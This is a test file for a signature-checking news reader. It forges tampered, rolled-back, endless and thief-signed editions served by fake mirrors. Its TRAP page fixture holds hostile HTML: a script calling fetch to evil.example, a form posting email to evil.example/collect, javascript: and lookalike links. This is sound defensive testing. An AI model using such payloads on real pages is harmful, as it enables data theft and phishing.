// The reader file and the worker against carriers that lie: dead, altered, old, mixed, endless, signed by a thief.
// The attacks are forged here with keys made for the purpose; if EDITION is signed, it is read too, and with KEYS robbed.
// EDITION: an edition's folder; ROOT: its first root (root.json); KEYS: the folder with online/ keys. TAKE=FOLDER takes pictures.
import { createHash, createPrivateKey, createPublicKey, sign as signBytes } from "node:crypto";
import { once } from "node:events";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import { dirname, join } from "node:path";
import { keep, reader, worker } from "./assemble-reader.mjs";
import { browser, checks, edition, files, pathToFileURL, temporary } from "./lib.mjs";

const { check, none } = checks();
// This script's own closing line counts for itself.
const counts = { passed: 0, failed: 0 };
const ok = (good, what, why) => { counts[good ? "passed" : "failed"]++; return check(Boolean(good), what, why); };

// ---- Forging ----
const sha = (bytes) => createHash("sha256").update(bytes).digest("hex");
const canonical = (value) => {
  if (typeof value === "string") return `"${value.replace(/["\\]/g, "\\$&")}"`;
  if (Array.isArray(value)) return `[${value.map(canonical).join(",")}]`;
  if (value && typeof value === "object") return `{${Object.keys(value).sort((a, b) => Buffer.compare(Buffer.from(a), Buffer.from(b))).map((name) => `${canonical(name)}:${canonical(value[name])}`).join(",")}}`;
  return String(value);
};
const fromSeed = (seed) => {
  const secret = createPrivateKey({ key: Buffer.concat([Buffer.from("302e020100300506032b657004220420", "hex"), seed]), format: "der", type: "pkcs8" });
  const key = { keytype: "ed25519", keyval: { public: createPublicKey(secret).export({ format: "der", type: "spki" }).subarray(-32).toString("hex") }, scheme: "ed25519" };
  return { secret, key, id: sha(canonical(key)) };
};
const keyOf = (name) => fromSeed(createHash("sha256").update(`reader test ${name}`).digest());
const signed = (content, keys) => {
  const bytes = Buffer.from(canonical(content));
  return Buffer.from(canonical({ signatures: keys.map(({ id, secret }) => ({ keyid: id, sig: signBytes(null, bytes, secret).toString("hex") })), signed: content }));
};
const BEGAN = Date.now(), DAY = 864e5, day = (days) => new Date(BEGAN + days * DAY).toISOString().replace(/\.\d+/, "");
const OUTSIDE = { addresses: ["https://pay.lantern.example/", "https://forms.lantern.example/letterbox/signup", "mailto:join@lantern.example"], format: 1 };

const editors = ["one", "two", "three"].map((name) => keyOf(`editor ${name}`)), others = ["one", "two", "three"].map((name) => keyOf(`targets ${name}`));
const live = keyOf("live"), standby = keyOf("standby"), fresh = keyOf("fresh"), thief = keyOf("thief");
const role = (keys, threshold) => ({ keyids: keys.map(({ id }) => id), threshold });
const rootOf = ({ version = 1, online = [live, standby], root = editors, threshold = 2, expires = day(365) } = {}) => ({
  _type: "root", consistent_snapshot: true, expires, keys: Object.fromEntries([...root, ...others, ...online].map(({ id, key }) => [id, key])),
  roles: { root: role(root, threshold), targets: role(others, 2), snapshot: role(online, 1), timestamp: role(online, 1) }, spec_version: "1.0.0", version,
});
const ROOT = signed(rootOf(), editors.slice(0, 2));

const address = (path, hash) => { const cut = path.lastIndexOf("/") + 1; return `targets/${path.slice(0, cut)}${hash}.${path.slice(cut)}`; };
/** A whole edition as a carrier serves it: addresses to bytes. */
const forge = (content, { version = 1, key = live, bins: binKeys = [live, standby], binVersion = version, until = {}, roots = [ROOT], hold = ["outside.json"], held = content, change = {} } = {}) => {
  const out = new Map(), target = (bytes) => ({ hashes: { sha256: sha(bytes) }, length: bytes.length });
  roots.forEach((bytes, n) => out.set(`metadata/${n + 1}.root.json`, bytes));
  const bins = Array.from({ length: 16 }, () => ({})), mine = {};
  for (const [path, bytes] of content) {
    out.set(path, bytes).set(address(path, sha(bytes)), bytes);
    bins[parseInt(sha(path)[0], 16)][path] = target(bytes);
  }
  for (const path of hold) mine[path] = target(held.get(path));
  const name = (n) => `bin-00${n.toString(16)}`, meta = { "targets.json": { version: 1 } };
  const common = (type, version, days) => ({ _type: type, expires: until[type] ?? day(days), spec_version: "1.0.0", version });
  bins.forEach((targets, n) => {
    meta[`${name(n)}.json`] = { version: binVersion };
    out.set(`metadata/${binVersion}.${name(n)}.json`, signed({ ...common("targets", binVersion, 400), targets }, [change.bin ?? key]));
  });
  out.set("metadata/1.targets.json", signed({ ...common("targets", 1, 365), delegations: { keys: Object.fromEntries(binKeys.map(({ id, key }) => [id, key])), roles: bins.map((_, n) => ({ ...role(binKeys, 1), name: name(n), path_hash_prefixes: [n.toString(16)], terminating: true })) }, targets: mine }, others.slice(0, 2)));
  const snapshot = signed({ ...common("snapshot", version, 7), published: AT, meta }, [key]);
  out.set(`metadata/${version}.snapshot.json`, snapshot);
  out.set("metadata/timestamp.json", signed({ ...common("timestamp", change.timestamp ?? version, 2), meta: { "snapshot.json": { hashes: { sha256: sha(snapshot) }, length: snapshot.length, version } } }, [key]));
  return out;
};
const merged = (...all) => new Map(all.flatMap((one) => [...one]));

// ---- Carriers ----
const json = (value) => Buffer.from(JSON.stringify(value));
const serve = async (content, { endless, hang, alter, cross = true } = {}) => {
  const state = { content, endless, hang, alter, asked: [], sent: 0 };
  const server = createServer((request, response) => {
    const path = decodeURIComponent(new URL(request.url, "http://x").pathname.slice(1));
    state.asked.push({ path, headers: request.headers });
    if (state.dead) return request.socket.destroy();
    if (state.hang?.(path)) return;
    const type = { html: "text/html; charset=utf-8", js: "text/javascript" }[path.split(".").pop()] ?? "application/octet-stream", headers = { "content-type": type, ...(cross && { "access-control-allow-origin": "*" }) };
    if (state.endless?.(path)) {
      response.writeHead(200, headers);
      const more = () => { while (!response.destroyed && response.write(Buffer.alloc(16384, 32))) state.sent += 16384; };
      response.on("drain", more);
      return more();
    }
    let bytes = state.content.get(path);
    if (bytes && state.alter) bytes = state.alter(path, bytes);
    response.writeHead(bytes ? 200 : 404, headers);
    response.end(bytes);
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  server.unref();
  state.base = `http://127.0.0.1:${server.address().port}/`;
  state.stop = () => { server.closeAllConnections(); server.close(); };
  return state;
};

// ---- What is read ----
const folder = edition(), plain = join(folder, "plain");
const pagesOf = (extra = {}) => {
  const all = new Map(files(plain).filter((path) => !/^(metadata|targets|packs)\//.test(path)).map((path) => [path, readFileSync(join(plain, path))]));
  for (const [path, text] of Object.entries(extra)) all.set(path, Buffer.from(text));
  return all;
};
const TRAP = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Trap</title><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/x.css"><style>strong{display:none!important}@import "https://evil.example/y.css";body{background:url(https://evil.example/bg.png)}</style><script>top.hacked=1;fetch("https://evil.example/s")</script></head><body onload="top.hacked=1">
<h1>Trap</h1><p><a id="listed" href="https://pay.lantern.example/once/15">Give</a> <a id="foreign" href="https://evil.example/pay" ping="https://evil.example/ping">Give here</a> <a id="prefix" href="https://pay.lantern.example.evil.example/">Give</a> <a id="user" href="https://pay.lantern.example@evil.example/">Give</a> <a id="dots" href="https://pay.lantern.example/../../x">inside the listed folder</a>
<a id="script" href="javascript:top.hacked=1">Script</a> <a id="mail" href="mailto:join@lantern.example?subject=hello">Write</a> <a id="other" href="mailto:thief@evil.example">Write</a> <a id="inner" href="index.html">Home</a> <a id="jump" href="#far">Jump</a> <a id="pdf" href="../note.txt">Note</a></p>
<svg width="20" height="20"><a id="svg" xlink:href="https://evil.example/svg" href="https://evil.example/svg"><rect width="20" height="20"/><set attributeName="href" to="https://evil.example/set"/></a></svg>
<img id="out" src="https://evil.example/pixel.png" onerror="top.hacked=1" alt="x"><iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>
<form id="good" method="post" action="https://forms.lantern.example/letterbox/signup"><input name="mail"><button formaction="https://evil.example/fa">Send</button></form>
<form id="bad" method="post" action="https://evil.example/collect"><input name="mail"><button>Send</button></form><form id="own"><input name="q"><button>Search</button></form>
<p style="height:300vh">Long</p><h2 id="far">Far</h2></body></html>`;
const common = (editions) => ({
  "outside.json": JSON.stringify(OUTSIDE), "mirrors.json": JSON.stringify({ format: 1, mirrors: ["https://mirror.example/"] }), "log/000000.json": JSON.stringify({ editions, format: 1 }),
  "policies.json": "{}", "en/trap.html": TRAP, "note.txt": "a note",
});
const FRONT = "en/index.html", SUPPORT = "en/support.html", AT = "2026-11-20T10:00:00Z";
const first = pagesOf(common([]));
const withMark = (content, mark) => new Map(content).set(FRONT, Buffer.from(content.get(FRONT).toString().replace(/<h2/, `<h2 data-mark="${mark}"`).replace(/<\/main>/, `<p>${mark}</p></main>`))).set("log/000000.json", json({ editions: [{ at: AT, sha256: "00", snapshot: 1 }], format: 1 }));
const second = withMark(first, "SECOND EDITION"), third = withMark(first, "THIRD EDITION"), robbed = withMark(first, "THE THIEF’S EDITION");
const V1 = forge(first), V2 = forge(second, { version: 2 }), V3 = forge(third, { version: 3 });
const tampered = (path, bytes) => /^(targets\/|en\/)/.test(path) ? Buffer.concat([bytes.subarray(0, -1), Buffer.from("!")]) : bytes;

// ---- The browser ----
// Every name but loopback leads to a server that counts: whoever is asked without being a mirror is found out.
const stranger = await serve(new Map());
const chromium = await browser(`--host-resolver-rules=MAP * ${new URL(stranger.base).host}, EXCLUDE 127.0.0.1`), strangers = [];
const shelf = temporary(), web = await serve(new Map(), { cross: false });
let number = 0, current = [];
/** Opens the reader with these carriers, from a file or from the web. */
const open = async (mirrors, { root = ROOT, from = "file", context, locale = "en-GB", before, options = {}, config = {}, hash = "" } = {}) => {
  const name = `reader-${++number}.html`, text = reader({ root: JSON.parse(root), mirrors: mirrors.map((one) => one.base ?? one), name: "The Lantern", home: FRONT, languages: ["en", "ru", "ar"], wait: 1500, ...config });
  writeFileSync(join(shelf, name), text);
  web.content.set(name, Buffer.from(text));
  const own = context ?? await chromium.newContext({ locale, viewport: { width: 390, height: 844 }, ...options }), page = await own.newPage();
  page.allowed = [...mirrors.map((one) => one.base ?? one), web.base];
  page.asked = [];
  const watch = (request) => {
    const url = request.url();
    page.asked.push(url);
    if (!/^(file|data|blob|about):/.test(url) && !page.allowed.some((base) => url.startsWith(base))) strangers.push(`${name}: ${url}`);
  };
  page.on("request", watch);
  // What the policy stopped was never sent.
  page.on("requestfailed", (request) => { if (request.failure()?.errorText === "csp") { const n = strangers.indexOf(`${name}: ${request.url()}`); if (n >= 0) strangers.splice(n, 1); } });
  page.errors = [];
  page.on("pageerror", (error) => page.errors.push(error.message));
  page.said = [];
  page.on("dialog", (dialog) => { page.said.push(dialog.message()); dialog.dismiss().catch(() => {}); });
  if (before) await page.addInitScript(before);
  page.where = (from === "file" ? pathToFileURL(join(shelf, name)).href : web.base + name) + hash;
  await page.goto(page.where);
  await settled(page);
  return page;
};
const settled = (page) => page.waitForFunction(() => !/Checking|Проверяем|جارٍ/.test(document.getElementById("state").textContent) && (!document.getElementById("say").hidden || document.getElementById("page").contentDocument?.body?.childElementCount), null, { timeout: 20_000 }).catch(() => {});
const inner = (page) => page.frameLocator("#page");
const told = async (page) => ({
  until: await page.textContent("#until"),
  state: await page.textContent("#state"), list: (await page.locator("#list li").allTextContents()), shown: await page.isVisible("#page"), words: await page.isVisible("#say") ? await page.textContent("#words") : "",
  text: await page.evaluate(() => document.getElementById("page").contentDocument?.body?.textContent ?? ""), alarm: await page.isVisible("#alarm"),
});
const close = (page) => page.context().close();
/** Reads through these carriers and judges what came of it. */
const expect = async (what, mirrors, wanted, options) => {
  const page = await open(mirrors, options), result = await told(page), faults = [];
  for (const [name, want] of Object.entries(wanted)) {
    const have = name === "list" ? result.list.join("\n") : result[name];
    if (want instanceof RegExp ? !want.test(have) : have !== want) faults.push(`${name} is ${JSON.stringify(String(have).slice(0, 300))}, not ${want}`);
  }
  if (page.errors.length) faults.push(`errors: ${page.errors}`);
  ok(!faults.length, what, faults.join("; "));
  await close(page);
};
const CHECKED = /^✓ Checked/, NOTHING = { shown: false, text: "", state: /⚠/ };

const dead = "http://127.0.0.1:9/";
for (const from of ["file", "http"]) {
  const bad = await serve(V2, { alter: tampered }), good = await serve(V2), page = await open([dead, bad, good], { from, options: { hasTouch: false } });
  const result = await told(page);
  ok(CHECKED.test(result.state) && /edition of/.test(result.state) && result.text.includes("SECOND EDITION"), `${from}: through a dead, an altering and a good mirror the front page is shown`, JSON.stringify([result.state, result.list, result.words, page.errors]));
  ok(/no answer/.test(result.list[0]) && /refused: .*altered/.test(result.list[1]) && /reachable/.test(result.list[2]), `${from}: the list says what became of each mirror`, result.list.join(" | "));
  ok(good.asked.every(({ headers }) => !headers.cookie && !headers.referer), `${from}: mirrors learn neither cookies nor where the reader came from`);
  await inner(page).locator("main img").first().scrollIntoViewIfNeeded();
  const seen = await page.waitForFunction(() => [...document.getElementById("page").contentDocument.images].some((one) => one.src.startsWith("blob:") && one.complete && one.naturalWidth > 1), null, { timeout: 8000 }).then(() => true, () => false);
  ok(seen, `${from}: a picture in view is shown from checked bytes`);
  ok(await page.evaluate(() => [...document.getElementById("page").contentDocument.images].some((one) => one.src.startsWith("data:image/svg"))), `${from}: a picture that is not in view is not fetched`);
  const link = inner(page).locator("main h2 a, main h3 a").first(), title = (await link.textContent()).trim();
  await link.click();
  await page.waitForFunction((title) => document.getElementById("page").contentDocument.querySelector("h1")?.textContent.trim() === title, title, { timeout: 8000 }).catch(() => {});
  ok((await inner(page).locator("h1").textContent()).trim() === title, `${from}: a link of the edition opens inside the reader`);
  await page.goBack();
  await page.waitForFunction(() => document.getElementById("page").contentDocument.body.textContent.includes("SECOND EDITION"), null, { timeout: 8000 }).catch(() => {});
  ok((await told(page)).text.includes("SECOND EDITION"), `${from}: Back goes back`);
  ok(page.url() === page.where, `${from}: the address does not tell what was read`, page.url());
  await inner(page).locator(".langs a[lang=ar]").click();
  await page.waitForFunction(() => document.documentElement.dir === "rtl", null, { timeout: 8000 }).catch(() => {});
  ok(await page.evaluate(() => document.documentElement.lang === "ar" && document.getElementById("page").contentDocument.documentElement.dir === "rtl" && document.getElementById("state").textContent.includes("تم التحقق")), `${from}: Arabic pages turn the reader around`);
  ok(!page.errors.length, `${from}: no script error`, page.errors.join("; "));
  await close(page);
  bad.stop();
  good.stop();
}
for (const [locale, word] of [["ru-RU", "Проверено"], ["ar", "تم التحقق"]]) {
  const good = await serve(V1), page = await open([good], { locale });
  ok((await told(page)).state.includes(word) && await page.evaluate((lang) => document.getElementById("page").contentDocument.documentElement.lang === lang, locale.slice(0, 2)), `a reader whose browser speaks ${locale} begins in that language`);
  await close(page);
}

// ---- What a mirror can do without a key ----
{
  const [one, two, now] = [await serve(V1), await serve(V2), await serve(V3)];
  await expect("an old mirror in front of a new one: the new edition is shown", [one, two, now], { state: CHECKED, text: /THIRD EDITION/ });
  await expect("two mirrors that withhold: what they have is shown", [one, two], { state: CHECKED, text: /SECOND EDITION/ });
  await expect("a folder of a carrier that has no targets/ serves the plain paths", [await serve(new Map([...V2].filter(([path]) => !path.startsWith("targets/"))))], { state: CHECKED, text: /SECOND EDITION/ });
}
const flip = (pattern) => (path, bytes) => pattern.test(path) ? Buffer.from(bytes.toString().replace(/"version":(\d+)/, (_, n) => `"version":${Number(n) + 7}`)) : bytes;
const flipSignature = (pattern) => (path, bytes) => pattern.test(path) ? Buffer.from(bytes.toString().replace(/"sig":"(..)/, (_, two) => `"sig":"${two === "00" ? "11" : "00"}`)) : bytes;
for (const [what, alter, why] of [
  ["only an altering mirror", tampered, /refused: .*: altered/], ["an altered timestamp", flip(/timestamp/), /timestamp: 0 of 1 signatures/], ["a broken signature of the timestamp", flipSignature(/timestamp/), /timestamp: 0 of 1/],
  ["an altered snapshot", flip(/snapshot/), /snapshot: not the one/], ["altered targets", flip(/targets\.json/), /targets: 0 of 2/], ["altered bins", flip(/bin-/), /bin-...: 0 of 1 signatures/], ["metadata that is no JSON", (path, bytes) => /timestamp/.test(path) ? Buffer.from("<html>") : bytes, /JSON|token/],
]) await expect(`${what}: refused, and nothing is shown`, [await serve(V2, { alter })], { shown: false, text: "", list: why });
for (const [what, content, why] of [
  ["a new timestamp over the old snapshot", merged(V2, new Map([["metadata/2.snapshot.json", V1.get("metadata/1.snapshot.json")]])), /snapshot: not the one/],
  ["a new snapshot over old bins", merged(V2, new Map([...V1].filter(([path]) => /\d\.bin-/.test(path)).map(([path, bytes]) => [path.replace("/1.", "/2."), bytes]))), /bin-...: version 1 instead of 2/],
  ["a timestamp signed by a stranger", merged(V2, new Map([["metadata/timestamp.json", forge(second, { version: 2, key: thief }).get("metadata/timestamp.json")]])), /timestamp: 0 of 1/],
  ["another newsroom’s edition", forge(second, { version: 2, key: thief, bins: [thief] }), /timestamp: 0 of 1/],
  ["bins signed by a stranger", forge(second, { version: 2, change: { bin: thief } }), /bin-...: 0 of 1/],
]) await expect(`${what}: refused`, [await serve(content)], { shown: false, text: "", list: why });
for (const [what, endless] of [["timestamp", /timestamp/], ["root", /2\.root/], ["snapshot", /snapshot/], ["bin", /bin-/], ["article", /index\.html$/]]) {
  const mirror = await serve(V2, { endless: (path) => endless.test(path) }), good = await serve(V2), began = Date.now();
  await expect(`an endless ${what} is cut off, and the next mirror serves`, [mirror, good], { state: CHECKED, text: /SECOND EDITION/, list: /refused: .*more than \d+ bytes/ });
  ok(mirror.sent < 16e6 && Date.now() - began < 15_000, `an endless ${what} costs little: ${mirror.sent} bytes were taken off the server`);
  mirror.stop();
}
{
  const slow = await serve(V2, { hang: () => true }), good = await serve(V2), began = Date.now();
  await expect("a mirror that never answers holds nobody up", [slow, good], { state: CHECKED, text: /SECOND EDITION/, list: /no answer/ });
  ok(Date.now() - began < 8000, `a mirror that never answers costs its time limit: ${Date.now() - began} ms`);
  const half = await serve(V2, { hang: (path) => path.startsWith("targets/") || /^en\//.test(path) });
  await expect("a mirror that answers for metadata only: articles come from the next", [half, good], { state: CHECKED, text: /SECOND EDITION/ });
  const away = await serve(V2);
  const sender = createServer((request, response) => { response.writeHead(302, { location: away.base + request.url.slice(1), "access-control-allow-origin": "*" }); response.end(); });
  sender.listen(0, "127.0.0.1");
  await once(sender, "listening");
  sender.unref();
  await expect("a mirror that sends the reader elsewhere is not followed", [`http://127.0.0.1:${sender.address().port}/`], NOTHING);
  ok(!away.asked.length, "and nobody else hears of it");
}

// ---- Rollback against what was seen ----
{
  const mirror = await serve(V2), page = await open([mirror]);
  mirror.content = V1;
  await page.reload();
  await settled(page);
  const after = await told(page);
  ok(/rolled back from 2 to 1/.test(after.list.join()) && !after.text.includes("SECOND") === !after.shown && !/✓/.test(after.state), "a mirror that goes back after a visit is refused, and the state says so", JSON.stringify([after.state, after.list, after.words]));
  const front = first.get(FRONT).toString().match(/<h2[^>]*>.*?<\/h2>/)?.[0].replace(/<[^>]*>/g, "");
  ok(!after.shown || after.text.includes("SECOND"), "the old page is not shown in its place", front);
  mirror.content = V3;
  await page.reload();
  await settled(page);
  ok((await told(page)).text.includes("THIRD EDITION"), "a newer edition is taken again");
  await close(page);
  const gone = forge(first, { version: 2 });
  const lacking = JSON.parse(gone.get("metadata/2.snapshot.json")).signed;
  delete lacking.meta["bin-00f.json"];
  const less = signed({ ...lacking, version: 3 }, [live]), stamp = JSON.parse(V3.get("metadata/timestamp.json")).signed;
  stamp.meta["snapshot.json"] = { version: 3, length: less.length, hashes: { sha256: sha(less) } };
  const shrinking = await serve(gone), other = await open([shrinking]);
  shrinking.content = merged(gone, new Map([["metadata/3.snapshot.json", less], ["metadata/timestamp.json", signed(stamp, [live])]]));
  await other.reload();
  await settled(other);
  const left = await told(other);
  ok(left.shown && left.text.length > 500 && !left.alarm, "a snapshot that loses a bin is refused, the edition before stays", JSON.stringify([left.state, left.list, left.words]));
  await close(other);
}

// ---- Time ----
{
  const gone = await serve(forge(second, { version: 2, until: { timestamp: day(-3) } })), page = await open([gone]), before = await told(page);
  ok(!before.shown && /authentic, but late/.test(before.words) && await page.isVisible("#go"), "an expired edition: the reader says it is authentic, and late, and since when", JSON.stringify(before));
  await page.click("#go");
  await settled(page);
  const after = await told(page);
  ok(after.shown && after.text.includes("SECOND EDITION") && /^⚠ Older edition/.test(after.state), "one button, and it can be read; the state goes on saying that it is old", JSON.stringify([after.state, after.list, after.words]));
  await close(page);
  for (const [type, days] of [["snapshot", -2], ["targets", -1]]) await expect(`expired ${type}: said as well`, [await serve(forge(second, { version: 2, until: { [type]: day(days) } }))], { shown: false, words: /authentic, but late/ });
  await expect("an expired root: said as well", [await serve(V2)], { shown: false, words: /authentic, but late/ }, { root: signed(rootOf({ expires: day(-1) }), editors.slice(0, 2)) });
  await expect("one mirror late, one current: the current one is shown", [gone, await serve(V3)], { state: CHECKED, text: /THIRD EDITION/ });
  await expect("the signer is destroyed, the standby keys sign: read as ever", [await serve(forge(third, { version: 3, key: standby }))], { state: CHECKED, text: /THIRD EDITION/ });
}

// ---- Keys ----
const rotated = (signers, more = {}) => signed(rootOf({ version: 2, online: [fresh, standby], ...more }), signers);
{
  const next = forge(second, { version: 2, key: fresh, bins: [fresh, live], roots: [ROOT, rotated(editors.slice(1))] });
  await expect("root rotated by two of three editors: followed", [await serve(next)], { state: CHECKED, text: /SECOND EDITION/ });
  await expect("root rotated by one of three: refused, its edition too", [await serve(forge(robbed, { version: 2, key: fresh, bins: [fresh], roots: [ROOT, rotated(editors.slice(0, 1))] }))], { shown: false, text: "", list: /root, by the old keys: 1 of 2/ });
  await expect("root signed twice by one editor: refused", [await serve(forge(robbed, { version: 2, key: fresh, bins: [fresh], roots: [ROOT, rotated([editors[0], editors[0]])] }))], { shown: false, text: "" });
  const alias = { ...editors[0], id: "another-name" };
  const odd = { ...rootOf(), keys: { ...rootOf().keys, [alias.id]: alias.key } };
  odd.roles.root.keyids.push(alias.id);
  await expect("one key under two names counts once", [await serve(forge(robbed, { version: 2, key: fresh, bins: [fresh], roots: [ROOT, rotated([editors[0], alias], { root: [...editors, alias] })] }))], { shown: false, text: "" }, { root: signed(odd, editors.slice(0, 2)) });
  await expect("root without the new keys’ signatures: refused", [await serve(forge(robbed, { version: 2, key: fresh, bins: [fresh], roots: [ROOT, rotated(editors.slice(0, 2), { root: ["x", "y", "z"].map(keyOf) })] }))], { shown: false, text: "" });
  await expect("root version 3 in place of 2: refused", [await serve(forge(robbed, { version: 2, key: fresh, bins: [fresh], roots: [ROOT, rotated(editors.slice(0, 2), { version: 3 })] }))], { shown: false, text: "" });
  const seized = forge(robbed, { version: 9, key: live, roots: [ROOT, rotated(editors.slice(1))] });
  await expect("a seized key after the rotation: refused", [await serve(seized)], { shown: false, text: "", list: /timestamp: 0 of 1/ });
  const withheld = forge(robbed, { version: 9, key: live });
  await expect("the thief’s mirror withholds the new root, another has it: the thief is refused", [await serve(withheld), await serve(next)], { state: CHECKED, text: /SECOND EDITION/ });
  await expect("the limit: all mirrors are the thief’s, and the new root was never seen: his edition is taken for real", [await serve(withheld)], { state: CHECKED, text: /THIEF/ });
  // A reader who saw the rotation keeps it, whatever the mirrors withhold.
  const mirror = await serve(next), page = await open([mirror]);
  mirror.content = withheld;
  await page.reload();
  await settled(page);
  const after = await told(page);
  ok(!after.text.includes("THIEF") && /timestamp: 0 of 1/.test(after.list.join()), "who has seen the rotation is not fooled by a mirror that withholds it", JSON.stringify([after.state, after.list]));
  await close(page);
  // Fast forward.
  const far = forge(robbed, { version: 1_000_000_000 }), forward = await serve(far), stuck = await open([forward]);
  ok((await told(stuck)).text.includes("THIEF"), "a thief with the live key jumps to version 1000000000");
  forward.content = forge(second, { version: 3 });
  await stuck.reload();
  await settled(stuck);
  ok(/rolled back from 1000000000/.test((await told(stuck)).list.join()), "with the old keys the newsroom cannot go on");
  forward.content = forge(second, { version: 4, key: fresh, bins: [fresh], roots: [ROOT, rotated(editors.slice(1), { online: [fresh] })] });
  await stuck.reload();
  await settled(stuck);
  const well = await told(stuck);
  ok(well.text.includes("SECOND EDITION") && CHECKED.test(well.state), "a root with new timestamp and snapshot keys heals it", JSON.stringify([well.state, well.list, well.words]));
  await close(stuck);
}
{
  // Two contents under one number.
  const one = await serve(V2), two = await serve(forge(third, { version: 2, until: { snapshot: day(6) } }));
  await expect("one version, two snapshots: alarm", [one, two], { alarm: true });
  await expect("two timestamps over one snapshot version with two contents: alarm", [one, await serve(forge(third, { version: 2, until: { snapshot: day(6) }, change: { timestamp: 5 } }))], { alarm: true });
  await expect("one snapshot under a timestamp signed anew: no alarm", [one, await serve(forge(second, { version: 2, change: { timestamp: 5 } }))], { alarm: false, state: CHECKED });
}

// ---- What a thief with the online keys can do ----
{
  const altered = new Map(second).set(SUPPORT, Buffer.from(second.get(SUPPORT).toString().replaceAll("https://pay.lantern.example/", "https://pay.thief.example/")));
  const swapped = new Map(altered).set("outside.json", json({ addresses: ["https://pay.thief.example/"], format: 1 }));
  const page = await open([await serve(forge(altered, { version: 2 }))], { hash: `#${SUPPORT}` });
  const marks = () => page.evaluate(() => [...document.getElementById("page").contentDocument.querySelectorAll("a")].filter((one) => one.textContent.includes("not vouched for by the editors")).length);
  ok(await marks() > 5 && !(await page.evaluate(() => [...document.getElementById("page").contentDocument.querySelectorAll("a")].some((one) => /thief/.test(one.href)))), "payment links changed with the online keys are marked on the support page");
  if (process.env.TAKE) { mkdirSync(process.env.TAKE, { recursive: true }); await page.screenshot({ path: join(process.env.TAKE, "marked.png") }); }
  await close(page);
  const honest = await open([await serve(V2)], { hash: `#${SUPPORT}` });
  ok(await honest.evaluate(() => [...document.getElementById("page").contentDocument.querySelectorAll("a[href^='https://pay.lantern.example/']")].length > 5 && ![...document.getElementById("page").contentDocument.querySelectorAll("a[href^='https://pay']")].some((one) => one.textContent.includes("⚠"))), "the true payment links are kept, without a mark");
  await close(honest);
  const list = await open([await serve(forge(swapped, { version: 2, held: second }))], { hash: `#${SUPPORT}` }), after = await told(list);
  ok(/outside\.json: altered/.test(after.list.join()) && !/pay\.thief/.test(await list.evaluate(() => [...(document.getElementById("page").contentDocument?.querySelectorAll("a") ?? [])].map((one) => one.href).join())), "outside.json changed with the online keys is refused", JSON.stringify([after.list, after.words]));
  await close(list);
  const without = await open([await serve(forge(swapped, { version: 2, hold: [] }))], { hash: `#${SUPPORT}` });
  ok(!/pay\.thief/.test(await without.evaluate(() => [...(document.getElementById("page").contentDocument?.querySelectorAll("a") ?? [])].map((one) => one.href).join())), "a list that only a bin has vouches for nothing");
  await close(without);
}

// ---- A page that means ill ----
for (const from of ["file", "http"]) {
  const page = await open([await serve(V2)], { from, hash: "#en/trap.html" }), at = (id) => inner(page).locator(`#${id}`), href = async (id) => at(id).getAttribute("href"), faults = [];
  for (const id of ["listed", "mail", "dots"]) if (!/^(https:|mailto:)/.test(await href(id)) || /⚠/.test(await at(id).textContent())) faults.push(`${id} should be kept: ${await href(id)}`);
  for (const id of ["foreign", "prefix", "user", "script", "other"]) if ((await href(id)) !== "#" || !/⚠ not vouched for by the editors/.test(await at(id).textContent())) faults.push(`${id} should be marked: ${await href(id)}`);
  if (await at("svg").evaluate((one) => /evil/.test(one.outerHTML))) faults.push("the svg link is left");
  for (const id of ["bad", "own"]) if (!(await at(id).locator("input").isDisabled()) || !(await at(id).locator("button").isDisabled()) || await at(id).getAttribute("action")) faults.push(`form ${id} is not disabled`);
  if (!(await at("good").locator("input").isEnabled()) || await at("good").getAttribute("action") !== "https://forms.lantern.example/letterbox/signup" || await at("good").locator("button").getAttribute("formaction")) faults.push("the listed form is wrong");
  for (const id of ["listed", "good"]) if (await at(id).getAttribute("target") !== "_blank" || await at(id).getAttribute("rel") !== "noreferrer") faults.push(`${id} does not open apart`);
  if (!(await at("foreign").locator("strong").isVisible())) faults.push("the page’s style hides the mark");
  if (await page.evaluate(() => window.hacked)) faults.push("the page ran a script");
  if (await page.evaluate(() => document.getElementById("page").contentDocument.querySelectorAll("script,base,meta,link,iframe,object").length)) faults.push("an element is left");
  none(faults, `${from}: a page that means ill is tamed`);
  counts[faults.length ? "failed" : "passed"]++;
  await at("foreign").click();
  ok(page.said.some((text) => /not vouched for by the editors/.test(text) && text.includes("https://evil.example/pay")) && page.context().pages().length === 1, `${from}: before an unlisted address is opened the reader asks, and names it`, page.said.join());
  await at("script").click();
  ok(page.said.length === 1 && !(await page.evaluate(() => window.hacked)), `${from}: a link with a script does nothing`);
  await at("jump").click();
  await page.waitForFunction(() => document.getElementById("page").contentWindow.scrollY > 500, null, { timeout: 5000 }).catch(() => {});
  ok(await page.evaluate(() => document.getElementById("page").contentWindow.scrollY > 500), `${from}: a link within the page scrolls`);
  const [file] = await Promise.all([page.waitForEvent("download", { timeout: 8000 }).catch(() => null), at("pdf").click()]);
  ok(file && readFileSync(await file.path(), "utf8") === "a note" && file.suggestedFilename() === "note.txt", `${from}: a file that is no page is checked, then given as a download`);
  ok(!page.errors.length, `${from}: no script error on it`, page.errors.join());
  await close(page);
}

// ---- Memory ----
{
  const mirror = await serve(V2), page = await open([mirror]), sizes = () => page.evaluate(() => [localStorage.length, sessionStorage.length]);
  ok(String(await sizes()) === "0,1", "by default it remembers in this tab only", String(await sizes()));
  await page.click("#panel summary");
  await page.check("#keep");
  ok(String(await sizes()) === "1,0", "with a tick it remembers on the device", String(await sizes()));
  const another = await open([mirror], { context: page.context() });
  ok(await another.isChecked("#keep"), "and knows that the next time");
  await another.click("#panel summary");
  await another.click("#forget");
  await settled(another);
  ok(String(await another.evaluate(() => [localStorage.length, sessionStorage.length])) === "0,1" && !(await another.isChecked("#keep")), "one button forgets everything", String(await another.evaluate(() => [localStorage.length, sessionStorage.length])));
  await close(page);
  await expect("it works when storage is forbidden", [mirror], { state: CHECKED, text: /SECOND EDITION/ }, { before: () => { for (const kind of ["localStorage", "sessionStorage"]) Object.defineProperty(window, kind, { get() { throw new DOMException("no", "SecurityError"); } }); } });
